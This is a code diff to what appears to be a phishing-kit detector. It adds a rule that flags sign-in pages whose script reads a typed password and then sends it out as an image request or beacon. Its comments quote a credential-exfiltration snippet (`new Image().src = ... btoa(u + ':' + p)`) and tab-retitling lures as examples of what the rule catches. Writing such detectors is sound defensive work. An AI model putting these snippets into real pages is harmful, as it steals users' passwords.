@@ -6,7 +6,10 @@ What it catches
     page or a well-known brand's (its title, or redirecting to the real one afterwards) or given
     a pretext to ask for a password again (a page titled as a firmware or security update,
     "confirm your Wi-Fi network password"); or a brand's sign-in page whose own script reads the
-    typed password, or sends it to a chat bot or a bare address (also a page that turns itself
+    typed password, or sends it to a chat bot or a bare address, or copies it off as an image
+    request or a beacon while the real sign-in goes on (`new Image().src = 'https://...?d=' +
+    btoa(u + ':' + p)`, `navigator.sendBeacon(...)`: a sign-in portal's page altered to
+    capture what is typed, T1056.003) (also a page that turns itself
     into one while its tab is in the background: `document.title = 'Gmail'`, "sign in again to
     continue to Gmail", `location.replace('https://mail.google.com/...')` once the password is
     read); a password form posting to a form-collector service, a bot or a bare address; an
@@ -170,6 +173,25 @@ def _cloaked(found: Capabilities) -> Detection | None:
     return supported(found, 0.8 if misled else 0.5, (Cap.SCANNER_CLOAK,), Cap.SCANNER_CLOAK.value)
 
 
+_BEACON = re.compile(r"\bnew\s+Image\b|\.src\s*=|\bsendBeacon\b", re.I)
+"""A send made as an image request or a beacon: a page's way to report, never to sign in."""
+
+
+def _beaconed(found: Capabilities) -> bool:
+    """Whether a typed password read by a page's script is followed closely by an image
+    request or a beacon (`new Image().src = 'https://...?d=' + btoa(u + ':' + p)`): the
+    password copied off to a collector while the real sign-in goes on (ATT&CK T1056.003)."""
+    own = found.hits.get(Cap.OWN_SITE_REQUEST, ())
+    return any(
+        0 <= sent.start - read.start <= 300
+        and _BEACON.search(sent.text) is not None
+        # (a beacon to the page's own site by a relative path reports to its owner)
+        and not any(abs(path.start - sent.start) <= 40 for path in own)
+        for sent in found.hits.get(Cap.NET_SEND, ())
+        for read in found.hits[Cap.PASSWORD_READ]
+    )
+
+
 @detector("OUT-PHISHING-KIT", redline="RL-CREDENTIAL")
 def phishing_kit(found: Capabilities) -> Detection | None:
     """Captured credentials + (password field or brand lure); or a handler that ships a posted
@@ -181,7 +203,9 @@ def phishing_kit(found: Capabilities) -> Detection | None:
         return messaged
     # -- messaging phishing: end --
     if Cap.PASSWORD_READ in found and (
-        Cap.WEBHOOK in found or found.near(Cap.PASSWORD_READ, Cap.UNVETTED_SOURCE, 300)
+        Cap.WEBHOOK in found
+        or found.near(Cap.PASSWORD_READ, Cap.UNVETTED_SOURCE, 300)
+        or _beaconed(found)
     ):
         # A page's own script sending the typed password to a chat bot or a bare address.
         beacon = (Cap.PASSWORD_READ, Cap.WEBHOOK, Cap.UNVETTED_SOURCE, Cap.PASSWORD_FIELD)
